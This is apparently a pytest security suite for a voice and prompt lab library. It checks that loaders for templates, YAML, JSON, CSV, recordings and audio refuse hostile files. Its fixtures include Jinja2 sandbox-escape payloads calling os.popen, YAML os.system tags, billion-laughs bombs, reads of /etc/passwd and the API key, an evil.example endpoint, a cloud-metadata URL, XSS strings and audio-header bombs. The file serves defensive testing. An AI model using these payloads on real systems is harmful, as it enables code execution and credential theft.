"""Files from a stranger, class by class: what they try, and the sentence that they get.

None may read a file outside of its folder, reach the network, run code, or take more than a little time and memory.
"""

from __future__ import annotations

import json
import os
import struct
import tracemalloc
import wave
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import soundfile

import contoso_lab as lab
from contoso_lab.audio import read_audio
from contoso_lab.engine.script import load_script
from contoso_lab.errors import LabError, PromptError, RecordingError, ShopError, UnreadableAudio
from contoso_lab.evaluation.suite_file import load_suite
from contoso_lab.prompts import load
from contoso_lab.prompts.persona_file import read_persona
from contoso_lab.recording import Recording
from contoso_lab.recording.imports import import_recordings
from contoso_lab.replay.scenario import load_scenario
from contoso_lab.shop import Catalog

SECRET = "the-secret-of-this-machine"
MOST_MB = 320
"""Ten minutes of silence that are filled in for sound that is missing, laid out on both sides, are 274 MB."""
HEAD = "name: stranger\ntemplate: {format: {kind: jinja2}, parser: {kind: prompty}}\n"
INPUT = "inputs:\n- {name: key, kind: string, default: '%s'}\n"
BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{to}: &{to} [{', '.join([f'*{of}'] * 9)}]\n" for of, to in zip("abcdefgh", "bcdefghi", strict=True)
)


@pytest.fixture(autouse=True)
def little_memory() -> Iterator[None]:
    """Whatever a file claims, reading it takes little memory."""
    tracemalloc.start()
    yield
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < MOST_MB << 20, f"it took {peak >> 20} MB"


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The stranger's folder; beside it lies what is none of their business, and so does the environment."""
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    (tmp_path / "secret.txt").write_text(SECRET)
    (tmp_path / "secret.json").write_text(json.dumps(SECRET))
    (tmp_path / "secret.yaml").write_text(f"who: {SECRET}\ndescription: d\nmanner: [m]\n")
    folder = tmp_path / "stranger"
    folder.mkdir()
    (folder / "link.json").symlink_to(tmp_path / "secret.json")
    return folder


def prompt(folder: Path, front: str = "", body: str = "system:\nHello") -> str:
    place = folder / "stranger.prompty"
    place.write_text(f"---\n{HEAD}{front}\n---\n{body}\n", encoding="utf-8")
    return json.dumps(load(place).render())


TEMPLATES = {
    "subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "globals": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "globals of a helper": "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "attr filter": "{{ '' | attr('__class__') }}",
    "format": "{{ '{0.__class__}'.format('') }}",
    "format_map": "{{ '{a.__class__}'.format_map({'a': ''}) }}",
    "include": "{% include '/etc/passwd' %}",
    "itself": "{% set n = (n or 0) + 1 %}{% if n < 30 %}{% include 'prompt' %}{% include 'prompt' %}{% endif %}",
    "what it works out": "{% include ['pro' ~ 'mpt'] %}",
    "import": "{% import 'os' as os %}{{ os }}",
    "extends": "{% extends 'secret.txt' %}",
    "power": "{{ 9 ** 9 ** 9 }}",
    "times": "{{ 'a' * 10 ** 10 }}",
    "percent": "{{ '%1000000000d' % 1 }}",
    "center": "{{ 'x' | center(10000000000) }}",
    "ljust": "{{ 'x'.ljust(10000000000) }}",
    "range": "{{ range(1000000000) | list }}",
    "loops": "{% for a in 'aaaa' %}{% for b in 'aaaa' %}{% for c in 'aaaa' %}x{% endfor %}{% endfor %}{% endfor %}",
    "doubling": "{% set a = 'aaaaaaaa' %}" + "{% set a = a ~ a %}" * 40,
    "recursive macro": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "macros in macros": "{% macro a() %}x{% endmacro %}{% macro b() %}{{ a() ~ a() }}{% endmacro %}{{ b() }}",
    "deep": "{{ " + "(" * 5000 + "1" + ")" * 5000 + " }}",
    "long": "x" * 300_000,
    "block": "{% set a %}xx{% endset %}{{ a }}",
}


@pytest.mark.parametrize("name", TEMPLATES)
def test_a_template_runs_nothing_and_takes_nothing(home: Path, name: str) -> None:
    with pytest.raises(PromptError) as refused:
        prompt(home, body=f"system:\n{TEMPLATES[name]}")
    assert "stranger.prompty" in str(refused.value)
    assert SECRET not in str(refused.value)


@pytest.mark.parametrize(("format", "parser"), [("mustache", "prompty"), ("jinja1", "prompty"), ("jinja2", "no")])
def test_a_template_in_another_language_is_not_filled_in(
    home: Path, monkeypatch: pytest.MonkeyPatch, format: str, parser: str
) -> None:
    (home.parent / "secret.mustache").write_text(SECRET)
    monkeypatch.chdir(home)
    place = home / "stranger.prompty"
    template = f"{{format: {{kind: {format}}}, parser: {{kind: {parser}}}}}"
    place.write_text(f"---\nname: stranger\ntemplate: {template}\n---\nsystem:\n{{{{> ../secret}}}}\n")
    with pytest.raises(PromptError, match="stranger.prompty: the .* of its template is not known here"):
        load(place).render()


FRONTS = {
    "environment in a default": INPUT % "${env:OPENAI_API_KEY}",
    "environment in the description": "description: ${env:OPENAI_API_KEY}\n",
    "environment with a default": INPUT % "${env:OPENAI_API_KEY:x}",
    "file above": INPUT % "${file:../secret.json}",
    "file by its whole path": INPUT % "${file:/etc/passwd}",
    "file by a link": INPUT % "${file:link.json}",
    "sample above, in version 1": "model: {api: chat}\nsample: ${file:../secret.json}\n",
    "a tag of Python": "metadata: !!python/object/apply:os.system ['id']\n",
    "a tag of Python's names": "metadata: !!python/name:os.system\n",
    "billion laughs": "metadata:\n" + "".join(f"  {line}\n" for line in BOMB.splitlines()),
    "deep": "metadata: " + "[" * 20_000 + "\n",
    "endless number": f"metadata: {{n: 0x{'f' * 5000}}}\n",
    "a number of sixties": "metadata: {n: " + ":".join(["59"] * 20_000) + "}\n",
    "no second fence, and a million spaces": " \n" * 500_000,
}


@pytest.mark.parametrize("name", FRONTS)
def test_a_front_matter_reads_nothing_of_this_machine(home: Path, name: str) -> None:
    with pytest.raises(PromptError) as refused:
        prompt(home, FRONTS[name], "system:\n{{ key }}")
    assert SECRET not in str(refused.value)


def test_an_address_in_a_prompt_is_not_where_its_words_go(home: Path) -> None:
    there = "{kind: key, endpoint: 'https://evil.example', apiKey: '${env:OPENAI_API_KEY}'}"
    with pytest.raises(PromptError, match="evil.example") as refused:
        prompt(home, f"model: {{id: gpt-4o, connection: {there}}}\n")
    assert SECRET not in str(refused.value)
    unknown = "{kind: key, endpoint: '${env:OPENAI_API_KEY}', apiKey: '${env:OPENAI_API_KEY}'}"
    assert SECRET not in prompt(home, f"model: {{id: gpt-4o, connection: {unknown}}}\n")
    assert SECRET not in repr(load(home / "stranger.prompty").agent().model.connection)


def test_a_picture_in_a_prompt_is_fetched_from_nowhere(home: Path) -> None:
    said = prompt(home, body="user:\n![a](../secret.txt) ![b](http://169.254.169.254/latest) ![c](/etc/passwd)")
    assert SECRET not in said
    assert "root:" not in said


READERS: dict[str, Callable[[Path], object]] = {
    "persona": read_persona,
    "suite": load_suite,
    "scenario": load_scenario,
    "script": load_script,
}
TEXTS = {
    "billion laughs": BOMB,
    "an alias": "a: &a 1\nb: *a\n",
    "a merge": "a: &a {x: 1}\nb: {<<: *a}\n",
    "a tag of Python": "a: !!python/object/apply:os.system ['id']\n",
    "deep": "a: " + "[" * 20_000,
    "deep in blocks": "".join(" " * depth + "a:\n" for depth in range(500)),
    "endless number": f"a: 0x{'f' * 5000}\n",
    "a number of sixties": "a: " + ":".join(["59"] * 20_000),
    "no date": "a: 2026-99-99\n",
    "large": "a: " + "x" * 1_100_000,
    "two documents": "a: 1\n---\nb: 2\n",
    "a key twice": "a: 1\na: 2\n",
    "a key that is a list": "? [a, b]\n: 1\n",
    "control characters": "a: \x01\n",
    "a list": "- a\n",
    "nothing": "",
}


@pytest.mark.parametrize("reader", READERS)
@pytest.mark.parametrize("name", TEXTS)
def test_a_file_in_yaml_is_refused_with_its_place(home: Path, reader: str, name: str) -> None:
    place = home / "stranger.yaml"
    place.write_text(TEXTS[name], encoding="utf-8")
    with pytest.raises(LabError, match=r"stranger\.yaml"):
        READERS[reader](place)


@pytest.mark.parametrize("base", ["../secret", "{folder}/../secret", "/etc/passwd"])
def test_a_persona_extends_no_file_outside_of_its_folder(home: Path, base: str) -> None:
    place = home / "kim.yaml"
    place.write_text(f"extends: {base.format(folder=home)}\nwho: Kim\n", encoding="utf-8")
    with pytest.raises(LabError, match="is no name") as refused:
        read_persona(place)
    assert SECRET not in str(refused.value)


def test_what_a_persona_says_is_no_template(home: Path) -> None:
    place = home / "kim.yaml"
    place.write_text('extends: voice\nwho: "{{ 7 * 191 }}"\n', encoding="utf-8")
    said = json.dumps(read_persona(place).prompt().render(**load("voice").sample()))
    assert "{{ 7 * 191 }}" in said
    assert "1337" not in said


CATALOGUES: dict[str, Any] = {
    "a manual above": [{"name": "a", "price": 1, "manual": "../secret.txt"}],
    "a manual by its whole path": [{"name": "a", "price": 1, "manual": "/etc/passwd"}],
    "a picture above": [{"name": "a", "price": 1, "image": "/../secret.txt"}],
    "a picture by a link": [{"name": "a", "price": 1, "image": "/link.json"}],
    "deep": "[" * 100_000,
    "endless number": '[{"name": "a", "price": ' + "9" * 5000 + "}]",
    "no number": '[{"name": "a", "price": NaN}]',
    "a number without end": '[{"name": "a", "price": 1e999}]',
    "a price that asks for patience": [{"name": "a", "price": "1.111" * 20_000 + "x"}],
    "no products": {"products": {"a": 1}},
    "a byte order mark": "\ufeff[]",
}


@pytest.mark.parametrize("name", CATALOGUES)
def test_a_catalogue_reads_nothing_of_this_machine(home: Path, name: str) -> None:
    said = CATALOGUES[name]
    place = home / "shop.json"
    place.write_text(said if isinstance(said, str) else json.dumps(said), encoding="utf-8")
    with pytest.raises(ShopError, match=r"shop\.json") as refused:
        Catalog.read(place)
    assert SECRET not in str(refused.value)
    assert "root:" not in str(refused.value)


def test_a_number_where_a_list_belongs_is_a_list_of_one(home: Path) -> None:
    place = home / "shop.json"
    place.write_text('[{"name": "Kayak", "price": 1, "aliases_de": 9, "aliases": {"fr": 1.5}, "features": true}]')
    [kayak] = Catalog.read(place).products
    assert (kayak.aliases, kayak.features) == ({"de": ("9",), "fr": ("1.5",)}, ("True",))


@pytest.mark.parametrize(
    "text", ["name,price" + ",a" * 5000 + "\nx,1\n", 'name,price\n"' + "x" * 100_000, "name,price\n", "\0", ""],
    ids=["wide", "a quote that never ends", "no rows", "nul", "nothing"],
)  # fmt: skip
def test_a_table_that_is_no_catalogue_is_refused(home: Path, text: str) -> None:
    place = home / "shop.csv"
    place.write_text(text, encoding="utf-8")
    with pytest.raises(ShopError, match=r"shop\.csv"):
        Catalog.read(place)


EVIL = '<script>alert(1)</script><img src=x onerror="alert(1)">'


def test_words_of_a_stranger_are_words_on_every_page(home: Path) -> None:
    place = home / "shop.json"
    place.write_text(json.dumps([{"name": EVIL, "price": 1, "description": EVIL, EVIL: EVIL}]), encoding="utf-8")
    shop = Catalog.read(place)
    call = recording(home, [{"type": EVIL, "transcript": EVIL}, {"type": "x", "item": {"id": EVIL, "content": EVIL}}])
    shown = [shop._repr_html_(), shop.products[0]._repr_html_(), call._repr_html_()]
    shown.append(call.page(home / "page.html").read_text(encoding="utf-8"))
    for html in shown:
        assert "<script>alert" not in html
        assert "<img src=x" not in html


def recording(folder: Path, events: list[dict[str, Any]], **line: Any) -> Recording:
    place = folder / "call"
    place.mkdir(exist_ok=True)
    lines = [
        json.dumps({"seq": seq, "t_ns": 1_000_000 * seq, "dir": "s2c", "ev": ev} | line)
        for seq, ev in enumerate(events)
    ]
    (place / "events.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return Recording.open(place)


def sound(off: Any, length: Any) -> dict[str, Any]:
    delta = {"$audio": "out", "off": off, "len": length, "sha": ""}
    return {"type": "response.output_audio.delta", "item_id": "a", "delta": delta}


CLAIMS = {
    "a year of silence": ([sound(0, 24_000 * 31_536_000)], {}),
    "behind the end of the world": ([sound(10**18, 1)], {}),
    "two hours that nobody wrote": ([sound(0, 24_000 * 7_200)], {}),
    "less than nothing": ([sound(-1, 5)], {}),
    "no numbers": ([sound("0", [])], {}),
    "a reference without anything": ([{"type": "response.output_audio.delta", "delta": {"$audio": "out"}}], {}),
    "in a thousand years": ([sound(0, 100)], {"t_ns": 10**20}),
    "at no time": ([sound(0, 100)], {"t_ns": float("nan")}),
    "in infinity": ([sound(0, 100)], {"t_ns": float("inf")}),
    "a gap of a year": (
        [
            sound(0, 100),
            {"type": "playback.started", "item_id": "a"},
            {"type": "playback.underrun", "item_id": "a", "gap_ms": -3e10},
        ],
        {"dir": "local"},
    ),
    "times that no clock can hold": (
        [
            sound(0, 100),
            {"type": "playback.started", "item_id": "a", "client_ms": 10**400},
            {"type": "playback.underrun", "item_id": "a", "client_ms": float("nan"), "gap_ms": 10**400},
            {"type": "playback.stopped", "item_id": "a", "client_ms": [], "played_ms": 10**400},
        ],
        {"dir": "local"},
    ),
}


@pytest.mark.parametrize("name", CLAIMS)
def test_a_recording_is_given_no_memory_for_what_it_only_claims(home: Path, name: str) -> None:
    events, line = CLAIMS[name]
    call = recording(home, events, **line)
    call.conversation  # noqa: B018 - it is worked out when it is asked for
    assert call.problems
    try:
        assert call.stereo().left.duration_ms <= 7_200_000
    except RecordingError as refused:
        assert "hours" in str(refused)  # noqa: PT017 - either is fine, a crash is not


@pytest.mark.parametrize(
    "line",
    [b"[" * 100_000, b"9" * 5000, b"\xff\xfe", b'{"seq": 1}', b"null", b'{"seq": 0, "t_ns": 0, "dir": "x", "ev": {}}'],
)
def test_a_damaged_line_is_left_out_with_a_sentence(home: Path, line: bytes) -> None:
    recording(home, [])
    (home / "call" / "events.jsonl").write_bytes(line + b"\n")
    call = Recording.open(home / "call")
    assert call.events == ()
    assert any("left out" in problem for problem in call.problems)


@pytest.mark.parametrize(
    "part", ["events.jsonl", "manifest.json", "prompty.jsonl", "audio/in.wav", "labels/author.json"]
)
@pytest.mark.parametrize("to", ["../../secret.txt", "/dev/zero"])
def test_a_recording_reads_no_file_outside_of_its_folder(home: Path, part: str, to: str) -> None:
    recording(home, [])
    place = home / "call" / part
    place.unlink(missing_ok=True)
    place.parent.mkdir(exist_ok=True)
    place.symlink_to(os.path.join("..", to) if "/" in part and to.startswith("..") else to)
    with pytest.raises(RecordingError, match="leads out of the folder"):
        Recording.open(home / "call")


def test_a_pipe_is_no_part_of_a_recording(home: Path) -> None:
    recording(home, [])
    (home / "call" / "audio").mkdir()
    os.mkfifo(home / "call" / "audio" / "in.wav")
    with pytest.raises(RecordingError, match="no file but a pipe"):
        Recording.open(home / "call")


@pytest.mark.parametrize("rater", ["../../secret", "/etc/passwd", "..", "a/b", "a\0b"])
def test_a_rater_is_no_path(home: Path, rater: str) -> None:
    with pytest.raises(RecordingError):
        recording(home, []).labels(rater)


@pytest.mark.parametrize("column", ["audio_path", "name"])
def test_a_table_of_calls_names_no_sound_and_no_log_outside_of_its_folder(home: Path, column: str) -> None:
    lab.tone(200).save(home.parent / "secret.wav")
    (home.parent / "secret.jsonl").write_text(json.dumps({"type": SECRET}) + "\n")
    path, name = ("../secret.wav", "one") if column == "audio_path" else ("", "../../secret")
    rows = f"example_id,turn_index,user_text,assistant_text,audio_path\n{name},1,hello,hi,{path}\n"
    (home / "link.json").unlink()
    (home / "results.csv").write_text(rows, encoding="utf-8")
    try:
        (made,) = import_recordings(home, home.parent / "runs", format="cookbook").recordings
    except RecordingError as refused:
        assert "is no name" in str(refused)  # noqa: PT017 - the other column is imported without the sound
        return
    assert Recording.open(made).user_audio.duration_ms == 0
    assert SECRET not in (made / "events.jsonl").read_text(encoding="utf-8")


@pytest.mark.parametrize("format", ["cookbook", "eva", "tau2"])
def test_a_folder_with_a_link_to_elsewhere_is_not_brought_in(home: Path, format: Any) -> None:
    with pytest.raises(RecordingError, match="leads out of the folder"):
        import_recordings(home, home.parent / "runs", format=format)


def wav(seconds: float, *, rate_hz: int = 8000, claimed_bytes: int = 100, channels: int = 1) -> bytes:
    data = struct.pack("<4sI4s4sIHHIIHH4sI", b"RIFF", 0xFFFFFFFF, b"WAVE", b"fmt ", 16, 1, channels, rate_hz,
                       rate_hz * 2, 2, 16, b"data", claimed_bytes)  # fmt: skip
    return data + bytes(int(seconds * rate_hz) * 2)


SOUNDS = {
    "ten hours in the header": wav(0, claimed_bytes=10 * 3600 * 8000 * 2),
    "four gigabytes in the header": wav(0.1, claimed_bytes=0xFFFFFFFF),
    "65535 channels": wav(0.1, channels=65535),
    "a rate of four billion": wav(0.1, rate_hz=8000)[:24] + struct.pack("<I", 0xFFFFFFFF) + wav(0.1)[28:],
    "a rate of nothing": wav(0.1)[:24] + bytes(4) + wav(0.1)[28:],
    "WebM that is none": b"\x1a\x45\xdf\xa3" + b"\xff" * 1000,
    "MP4 that is none": b"\xff\xff\xff\xffftyp" + b"\xff" * 1000,
    "Ogg that is none": b"OggS" + b"\xff" * 1000,
    "FLAC that is none": b"fLaC" + b"\xff" * 1000,
    "a page": b"<html>" * 100,
    "a zip": b"PK\x03\x04" + bytes(100),
}


@pytest.mark.parametrize("name", SOUNDS)
def test_a_sound_is_given_no_memory_for_what_its_header_claims(name: str) -> None:
    try:
        assert read_audio(SOUNDS[name]).duration_ms < 1000
    except UnreadableAudio as refused:
        assert str(refused)  # noqa: PT017 - what is there may be read; a crash or a gigabyte is a fault


def test_a_flac_that_unfolds_is_stopped_at_two_hours(tmp_path: Path) -> None:
    """Silence packs a thousandfold. At the lowest rate two hours are small enough for a test."""
    place = tmp_path / "quiet.flac"
    with soundfile.SoundFile(place, "w", 8000, 8, "PCM_16", format="FLAC") as file:
        for _ in range(8):
            file.write(np.zeros((1_000_000, 8), np.int16))
    assert place.stat().st_size < 300_000
    assert read_audio(place).duration_ms == 1_000_000
    with wave.open(str(tmp_path / "x.wav"), "wb") as file:
        file.setnchannels(1)
        file.setsampwidth(2)
        file.setframerate(8000)
    assert read_audio(tmp_path / "x.wav").duration_ms == 0
